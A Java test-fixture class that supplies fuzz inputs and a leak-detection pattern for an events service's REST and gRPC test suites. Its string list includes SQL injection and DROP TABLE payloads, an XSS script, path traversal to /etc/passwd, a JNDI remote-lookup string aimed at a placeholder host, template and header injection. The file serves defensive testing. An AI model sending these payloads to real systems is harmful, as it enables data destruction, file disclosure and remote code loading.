package io.shopflow.events.testing;

import java.util.List;
import java.util.regex.Pattern;

/** What the fuzz suites send and what they look for in the answers, shared by the REST and the gRPC ones. */
public final class HostileInput {

    /** Strings an attacker or a careless client sends: injections, control and odd Unicode characters, lengths. */
    public static final List<String> STRINGS = List.of(
            "", " ", "'", "\"", "\\", "' OR '1'='1", "'; DROP TABLE users; --", "1; SELECT pg_sleep(5)",
            "<script>alert(1)</script>", "../../../../etc/passwd", "%00", "\u0000", "\uFEFF", "\u202Eevil",
            "\uD83D\uDC69\u200D\uD83D\uDCBB", "\uD800", "null", "-1", "NaN", "${jndi:ldap://example.invalid/a}",
            "{{7*7}}", "\r\nX-Injected: 1", "a".repeat(10_000), "é".repeat(100_000));

    /** What an answer must never show: traces of the code, the stack it runs on, or where things live inside. */
    public static final Pattern LEAK = Pattern.compile("Exception|\\bat [a-z]+\\.[a-z]+\\.|Caused by|SQLState"
            + "|jdbc:|postgresql|localhost|127\\.0\\.0\\.1|systest_|io\\.vertx|io\\.quarkus|\\.java:\\d+");

    private HostileInput() {
    }

    /** A text for a report: short, one line. */
    public static String abbreviated(String text) {
        String line = text.replace("\n", "\\n").replace("\r", "\\r");
        return line.length() <= 300 ? line : line.substring(0, 300) + "...";
    }
}
